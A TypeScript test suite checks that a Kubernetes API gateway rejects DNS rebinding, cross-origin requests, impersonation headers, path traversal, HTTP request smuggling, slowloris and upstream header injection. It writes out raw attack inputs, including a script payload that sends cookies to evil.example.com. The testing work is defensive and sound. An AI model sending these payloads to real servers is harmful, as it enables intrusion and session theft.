import { execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { type AddressInfo, connect, type Socket } from 'node:net'
import { text } from 'node:stream/consumers'
import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import WebSocket from 'ws'
import { freePort } from '../../scripts/free-port'
import { buildApp } from '../app'
import { readConfig } from '../config'

// What was tried against the gateway, byte by byte over a socket, and what became of it. An API server of
// the test's own says what reached it. Sessions have attacks of their own beside their code.

const STREAMS = '/apis/image.openshift.io/v1/namespaces/shop/imagestreams'
const MINE = 'authorization: Bearer mine'

interface Seen {
  method: string
  url: string
  headers: string[]
  body: string
}

let upstream: Server
let seen: Seen[]
let answer: (request: IncomingMessage, response: ServerResponse) => void
let app: FastifyInstance
let port: number

beforeAll(async () => {
  upstream = createServer(async (request, response) => {
    const one: Seen = {
      method: request.method ?? '',
      url: request.url ?? '',
      headers: request.rawHeaders.map((each) => each.toLowerCase()),
      body: '',
    }
    seen.push(one)
    one.body = await text(request).catch(() => 'broken off')
    answer(request, response)
  })
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
  const to = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`
  app = await buildApp(readConfig(['--upstream', to, '--log-level', 'silent'], {}))
  await app.listen({ port: 0, host: '127.0.0.1' })
  port = (app.server.address() as AddressInfo).port
})
afterAll(async () => {
  await app.close()
  upstream.closeAllConnections()
  upstream.close()
})
beforeEach(() => {
  seen = []
  answer = (_request, response) => {
    response.writeHead(200, { 'content-type': 'application/json' })
    response.end('{}')
  }
})

/** Sends bytes as they are, and answers everything that comes back until the connection ends. */
async function raw(bytes: string): Promise<{ code: number; all: string }> {
  const socket = connect(port, '127.0.0.1')
  socket.on('error', () => socket.destroy())
  socket.write(bytes, 'latin1')
  const all = await text(socket).catch(() => '')
  return { code: Number(/^HTTP\/1\.1 (\d+)/.exec(all)?.[1] ?? 0), all }
}

/** A request with these lines, after which the connection ends. */
function ask(line: string, ...headers: string[]) {
  const host = headers.some((each) => /^host:/i.test(each)) ? [] : ['host: localhost']
  const lines = [`${line} HTTP/1.1`, ...host, ...headers, 'connection: close']
  return raw(`${lines.join('\r\n')}\r\n\r\n`)
}

describe('DNS rebinding', () => {
  test.each([
    'evil.example.com',
    'localhost.evil.example.com',
    '127.0.0.1.nip.example.com',
    'evil.example.com:9000',
    'localhost@evil.example.com',
    'evil.example.com#localhost',
    '',
  ])('as %j reaches nothing', async (host) => {
    expect((await ask(`GET ${STREAMS}`, `host: ${host}`, MINE)).code).toBe(403)
    expect((await ask('GET /session', `host: ${host}`)).code).toBe(403)
    expect(seen).toEqual([])
  })

  test('with a second Host is refused, whichever comes first', async () => {
    for (const hosts of [
      ['host: localhost', 'host: evil.example.com'],
      ['host: evil.example.com', 'host: localhost'],
    ]) {
      expect((await ask(`GET ${STREAMS}`, ...hosts, MINE)).code).toBeGreaterThanOrEqual(400)
    }
    expect(seen).toEqual([])
  })
})

describe('a page of another origin', () => {
  const form = ['content-type: text/plain', 'content-length: 2']
  test.each([
    ['a form', `POST ${STREAMS}`, ['origin: https://evil.example.com', ...form]],
    ['a form of an opaque origin', `POST ${STREAMS}`, ['origin: null', ...form]],
    ['a fetch', `PATCH ${STREAMS}/web`, ['origin: http://localhost:8080', ...form]],
    ['a fetch of a sibling', `DELETE ${STREAMS}/web`, ['sec-fetch-site: same-site']],
    ['an image', `GET ${STREAMS}`, ['sec-fetch-site: cross-site', 'sec-fetch-dest: image']],
    ['a script', `GET ${STREAMS}`, ['sec-fetch-site: cross-site', 'sec-fetch-dest: script']],
    ['a link', `GET ${STREAMS}`, ['sec-fetch-site: cross-site', 'sec-fetch-mode: navigate']],
    ['a watch', `GET ${STREAMS}?watch=true`, ['origin: https://evil.example.com']],
    ['a preflight', `OPTIONS ${STREAMS}`, ['origin: https://evil.example.com']],
  ])('gets nowhere with %s', async (_name, line, headers) => {
    const { code, all } = await ask(line, MINE, ...headers)
    expect(code).toBe(403)
    expect(all).not.toMatch(/access-control-allow/i)
    expect(seen).toEqual([])
  })

  test('gets nowhere with a WebSocket', async () => {
    const socket = new WebSocket(`ws://localhost:${port}${STREAMS}?watch=true`, {
      headers: { authorization: 'Bearer mine', origin: 'https://evil.example.com' },
    })
    const [, response] = await once(socket, 'unexpected-response')
    expect(response.statusCode).toBe(403)
    expect(seen).toEqual([])
  })
})

describe('headers', () => {
  test('that would make us somebody else never pass, however they are written', async () => {
    const { code } = await ask(
      `GET ${STREAMS}`,
      MINE,
      'Impersonate-User: root',
      'impersonate-group: system:masters',
      'Impersonate-Extra-Scopes: all',
      'impersonate_user: root',
      'X-Remote-User: root',
      'x-remote-group: system:masters',
      'X-Forwarded-For: 10.0.0.1',
      'x-forwarded-host: api',
      'Forwarded: for=10.0.0.1',
      'x-original-url: /api/v1/secrets',
      'x-rewrite-url: /api/v1/secrets',
      'x-http-method-override: DELETE',
      'cookie: session=mine',
      'proxy-authorization: Basic eA==',
      'te: trailers',
    )
    expect(code).toBe(200)
    const names = seen[0]?.headers.filter((_each, index) => index % 2 === 0).sort()
    expect(names).toEqual(['authorization', 'connection', 'host'])
    expect(seen[0]?.headers).toContain('bearer mine')
  })

  test('that Connection lists are for the gateway alone', async () => {
    await raw(
      [
        `GET ${STREAMS} HTTP/1.1`,
        'host: localhost',
        MINE,
        'accept: application/json',
        'connection: close, Accept, authorization, impersonate-user',
        'impersonate-user: root',
        '',
        '',
      ].join('\r\n'),
    )
    expect(seen[0]?.headers).not.toContain('accept')
    expect(seen[0]?.headers.join()).not.toContain('impersonate')
    // Who asks is said by us, not passed on.
    expect(seen[0]?.headers).toContain('bearer mine')
  })

  test.each([
    ['two tokens', [MINE, 'authorization: Bearer other'], 401],
    ['two content types', [MINE, 'content-type: a/b', 'content-type: application/json'], 400],
    ['a folded line', [MINE, 'accept: a\r\n impersonate-user: root'], 400],
    ['a name with a space', [MINE, 'impersonate-user : root'], 400],
    ['a line feed in a value', [MINE, 'accept: a\nimpersonate-user: root'], 400],
    ['a zero in a value', [MINE, 'accept: a\0b'], 400],
  ])('with %s are refused', async (_name, headers, expected) => {
    const { code } = await ask(`GET ${STREAMS}`, ...headers)
    // Node reads a lone line feed as the end of a line; then the header is one that does not pass.
    if (code === 200) expect(seen[0]?.headers.join()).not.toContain('impersonate')
    else expect(code).toBe(expected)
  })
})

describe('a path', () => {
  test.each([
    '/api/v1/namespaces/shop/../../secrets',
    '/api/v1/namespaces/%2e%2e/secrets',
    '/api/v1/namespaces/%2E%2E%2Fsecrets',
    '/api/v1/namespaces/..%5csecrets',
    '/apis/image.openshift.io/v1/..;/..;/v1/secrets',
    '/api//v1/secrets',
    '//api/v1/namespaces',
    '/api/v1/namespaces//shop',
    '/api/v1/namespaces/shop%2fsecrets%2fpull',
    '/api/v1/namespaces%00/../secrets',
    '/api/%2576ersion',
    '/%61pi/v1/secrets',
    '/API/v1/namespaces',
    '/api;x/v1/namespaces',
    '/api/v1/proxy/namespaces/shop/pods/web',
    'http://localhost/api/v1/namespaces',
    'http://evil.example.com/api/v1/namespaces',
    '/openapi/../api/v1/secrets',
    '/version/../api/v1/secrets',
  ])('%s leads nowhere', async (path) => {
    const { code } = await ask(`GET ${path}`, MINE)
    expect(code).toBeGreaterThanOrEqual(400)
    expect(code).toBeLessThan(500)
    expect(seen).toEqual([])
  })
})

describe('one request that is two', () => {
  const smuggled = `GET /api/v1/secrets HTTP/1.1\r\nhost: localhost\r\n\r\n`
  const head = (...headers: string[]) =>
    [`POST ${STREAMS} HTTP/1.1`, 'host: localhost', MINE, ...headers, '', ''].join('\r\n')

  test.each([
    [
      'with two lengths',
      head('content-length: 0', `content-length: ${smuggled.length}`) + smuggled,
    ],
    [
      'with a length and chunks',
      `${head('content-length: 5', 'transfer-encoding: chunked')}0\r\n\r\n${smuggled}`,
    ],
    [
      'with chunks and a length',
      `${head('transfer-encoding: chunked', 'content-length: 5')}0\r\n\r\n${smuggled}`,
    ],
    ['with an unknown encoding', head('transfer-encoding: xchunked') + smuggled],
    [
      'with a doubled encoding',
      `${head('transfer-encoding: chunked, identity')}0\r\n\r\n${smuggled}`,
    ],
    [
      'with an encoding after a tab',
      `${head('transfer-encoding:\tchunked', 'content-length: 5')}0\r\n\r\n${smuggled}`,
    ],
    [
      'with an encoding before a space',
      `${head('transfer-encoding : chunked', 'content-length: 5')}0\r\n\r\n${smuggled}`,
    ],
    ['with a signed length', head('content-length: +5') + smuggled],
    ['with a length in hex', head('content-length: 0x5') + smuggled],
    [
      'with a chunk that is too long',
      `${head('transfer-encoding: chunked')}fffffffffffffffff\r\n${smuggled}`,
    ],
    ['with a chunk that is no number', `${head('transfer-encoding: chunked')}zz\r\n${smuggled}`],
  ])('%s is refused whole', async (_name, bytes) => {
    const { code, all } = await raw(bytes)
    expect(code).toBe(400)
    expect(all.match(/HTTP\/1\.1 /g)).toHaveLength(1)
    // At most the first one came through, without the second in it.
    expect(seen.filter(({ url }) => url !== STREAMS)).toEqual([])
    for (const { body } of seen) expect(body).not.toContain('secrets')
  })

  test('because a second one follows on the connection is two, each looked at', async () => {
    const first = head('content-length: 2')
    const second = `GET /api/v1/secrets HTTP/1.1\r\nhost: localhost\r\n${MINE}\r\nconnection: close\r\n\r\n`
    const { all } = await raw(`${first}{}${second}`)
    expect(all.match(/HTTP\/1\.1 \d+/g)).toEqual(['HTTP/1.1 200', 'HTTP/1.1 404'])
    expect(seen).toHaveLength(1)
    expect(seen[0]?.body).toBe('{}')
  })
})

describe('what is too much', () => {
  test.each([
    ['a header', `GET ${STREAMS}`, [`accept: ${'a'.repeat(70_000)}`], 431],
    ['an address', `GET ${STREAMS}?x=${'a'.repeat(70_000)}`, [], 431],
    ['a token', `GET ${STREAMS}`, [`authorization: Bearer ${'a'.repeat(70_000)}`], 431],
    ['a cookie', `GET ${STREAMS}`, [`cookie: a=${'a'.repeat(70_000)}`], 431],
    [
      'headers',
      `GET ${STREAMS}`,
      Array.from({ length: 5000 }, (_, n) => `x-${n}: aaaaaaaaaaaa`),
      431,
    ],
  ])('of %s is refused', async (_name, line, headers, code) => {
    expect((await ask(line, ...headers)).code).toBe(code)
    expect(seen).toEqual([])
  })

  test('of a path segment is refused', async () => {
    const { code } = await ask(`GET ${STREAMS}/${'a'.repeat(20_000)}`, MINE)
    expect(code).toBeGreaterThanOrEqual(400)
    expect(seen).toEqual([])
  })

  test('of a body that says so is refused before it is sent', async () => {
    const { code } = await ask(`POST ${STREAMS}`, MINE, 'content-length: 99999999')
    expect(code).toBe(413)
    expect(seen).toEqual([])
  })

  test('of patience: five hundred connections that say nothing stop nobody', async () => {
    const silent: Socket[] = []
    for (let n = 0; n < 500; n++) {
      const socket = connect(port, '127.0.0.1')
      socket.on('error', () => {})
      socket.write(`GET ${STREAMS} HTTP/1.1\r\nhost: local`)
      silent.push(socket)
    }
    await Promise.all(silent.map((socket) => socket.connecting && once(socket, 'connect')))
    expect((await ask(`GET ${STREAMS}`, MINE)).code).toBe(200)
    expect(seen).toHaveLength(1)
    for (const socket of silent) socket.destroy()
  })
})

describe('slowloris', () => {
  let strict: FastifyInstance
  let at: number

  beforeAll(async () => {
    const to = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`
    const words = ['--upstream', to, '--log-level', 'silent', '--request-timeout', '1']
    strict = await buildApp(readConfig(words, {}))
    await strict.listen({ port: 0, host: '127.0.0.1' })
    at = (strict.server.address() as AddressInfo).port
  })
  afterAll(() => strict.close())

  const head = `POST ${STREAMS} HTTP/1.1\r\nhost: localhost\r\n${MINE}\r\n`

  /** Sends the beginning, then a byte at a time for as long as the connection stands. */
  async function drip(beginning: string, byte: string) {
    const started = Date.now()
    const socket = connect(at, '127.0.0.1')
    socket.on('error', () => socket.destroy())
    if (beginning !== '') socket.write(beginning)
    const timer = setInterval(() => byte !== '' && socket.write(byte), 50)
    const all = await text(socket).catch(() => '')
    clearInterval(timer)
    return { all, ms: Date.now() - started }
  }

  test.each([
    ['says nothing at all', '', '', 0],
    ['drips headers for ever', head, 'x', 500],
    ['drips a body for ever', `${head}content-length: 100000\r\n\r\n`, 'x', 1000],
    ['drips chunks for ever', `${head}transfer-encoding: chunked\r\n\r\n`, '1\r\nx\r\n', 1000],
  ])('that %s is cut off when its time is over', async (_name, beginning, byte, least) => {
    const { all, ms } = await drip(beginning, byte)
    expect(ms).toBeGreaterThanOrEqual(least)
    expect(ms).toBeLessThan(5_000)
    expect(all).toMatch(/^$|^HTTP\/1\.1 408 /)
    // What never arrived whole was never answered by the API server, and counts for nothing any more.
    await expect.poll(() => strict.server.listening && openConnections(strict)).toBe(0)
  })

  test('that reads nothing of its answer holds nobody else up', async () => {
    // More than the buffers of both sockets hold.
    const long = Buffer.alloc(16_000_000, 'x')
    answer = (_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' })
      response.end(long)
    }
    const lazy = Array.from({ length: 20 }, () => {
      const socket = connect(at, '127.0.0.1').pause()
      socket.write(`GET ${STREAMS} HTTP/1.1\r\nhost: localhost\r\n${MINE}\r\n\r\n`)
      return socket
    })
    await expect.poll(() => seen.length, { timeout: 10_000 }).toBe(20)
    answer = (_request, response) => response.end('{}')
    const got = await fetch(`http://127.0.0.1:${at}${STREAMS}`, {
      headers: { authorization: 'Bearer mine', connection: 'close' },
    })
    expect(got.status).toBe(200)
    for (const socket of lazy) socket.destroy()
    await expect.poll(() => openConnections(strict)).toBe(0)
  })
})

function openConnections({ server }: FastifyInstance): Promise<number> {
  return new Promise((resolve, reject) =>
    server.getConnections((error, count) => (error ? reject(error) : resolve(count))),
  )
}

describe('an answer of the API server', () => {
  const hostile = '<script>fetch("https://evil.example.com/"+document.cookie)</script>'
  test.each([
    'text/html',
    'text/html; charset=utf-7',
    'image/svg+xml',
    'application/xhtml+xml',
    'text/xml',
    'text/javascript',
    'application/javascript',
    'text/css',
    'multipart/x-mixed-replace; boundary=x',
    'application/json, text/html',
    '',
  ])('of type %j is text that runs nowhere', async (type) => {
    answer = (_request, response) => {
      if (type !== '') response.setHeader('content-type', type)
      response.end(hostile)
    }
    const got = await fetch(`http://127.0.0.1:${port}${STREAMS}`, {
      headers: { authorization: 'Bearer mine' },
    })
    const told = got.headers.get('content-type') ?? ''
    expect(told).toMatch(/^$|^text\/plain; charset=utf-8$|^application\/octet-stream$/)
    expect(got.headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(got.headers.get('content-security-policy')).toContain('sandbox')
    expect(got.headers.get('x-content-type-options')).toBe('nosniff')
    expect(got.headers.get('cross-origin-resource-policy')).toBe('same-origin')
    await got.text()
  })

  test('cannot put headers into ours', async () => {
    answer = (_request, response) => {
      response.socket?.write(
        [
          'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nset-cookie: a=b',
          'warning: 299 - "a"\rset-cookie: c=d',
          'strict-transport-security: max-age=0',
          'clear-site-data: "*"',
          'refresh: 0; url=https://evil.example.com',
          'link: <https://evil.example.com>; rel=preload',
          'service-worker-allowed: /',
          'content-length: 2\r\n\r\n{}',
        ].join('\r\n'),
      )
    }
    const { all } = await ask(`GET ${STREAMS}`, MINE)
    const [head = ''] = all.split('\r\n\r\n')
    expect(head).not.toMatch(/set-cookie|clear-site-data|refresh:|evil|service-worker/i)
  })

  test('that leads elsewhere is not followed, and not passed on as a redirect', async () => {
    answer = (_request, response) => {
      response.writeHead(302, { location: 'https://evil.example.com/' })
      response.end()
    }
    const { code, all } = await ask(`GET ${STREAMS}`, MINE)
    expect(code).toBe(302)
    expect(all).not.toContain('evil')
    expect(seen).toHaveLength(1)
  })
})

test('what the gateway says of a hostile request is JSON that holds it as text', async () => {
  const { all } = await ask(`GET /api/v1/%3Cscript%3Ealert(1)%3C/script%3E`, MINE)
  expect(all).toMatch(/content-type: application\/json/i)
  expect(all).not.toContain('<script>')
})

test('no token is in the log, whatever goes wrong and however much is told', async () => {
  execFileSync(process.execPath, ['scripts/build.js'], { stdio: ['ignore', 'ignore', 'inherit'] })
  const at = await freePort()
  const closed = await freePort()
  const child = spawn(
    process.execPath,
    [
      ...['dist/server/main.js', '--port', String(at), '--log-level', 'trace'],
      ...['--upstream', `https://127.0.0.1:${closed}`],
    ],
    { stdio: ['ignore', 'pipe', 'pipe'] },
  )
  try {
    const said = Promise.all([text(child.stdout), text(child.stderr)])
    await expect
      .poll(
        () =>
          fetch(`http://127.0.0.1:${at}/readyz`).then(
            ({ ok }) => ok,
            () => false,
          ),
        {
          timeout: 20_000,
        },
      )
      .toBe(true)
    const url = `http://127.0.0.1:${at}`
    const headers = {
      authorization: 'Bearer tell-nobody',
      cookie: '__Host-tagstream=tell-nobody',
      'x-forwarded-access-token': 'tell-nobody',
    }
    for (const [method, path] of [
      ['GET', `${STREAMS}?access_token=tell-nobody&token=tell-nobody`],
      ['POST', STREAMS],
      ['GET', '/api/v1/secrets?x=tell-nobody'],
      ['GET', '/session/enter?code=tell-nobody'],
      ['GET', '/session/callback?code=tell-nobody&state=tell-nobody'],
      ['GET', '/nowhere?tell-nobody'],
    ] as const) {
      const got = await fetch(url + path, { method, headers })
      expect(await got.text()).not.toContain('tell-nobody')
    }
    const socket = connect(at, '127.0.0.1')
    socket.write('GET /api HTTP/1.1\r\nauthorization: Bearer tell-nobody\r\nbad header\r\n\r\n')
    await text(socket)
    child.kill('SIGTERM')
    const [out, err] = await said
    expect(out).toContain('cannot reach the API server')
    expect(out + err).not.toContain('tell-nobody')
  } finally {
    child.kill('SIGKILL')
  }
}, 120_000)
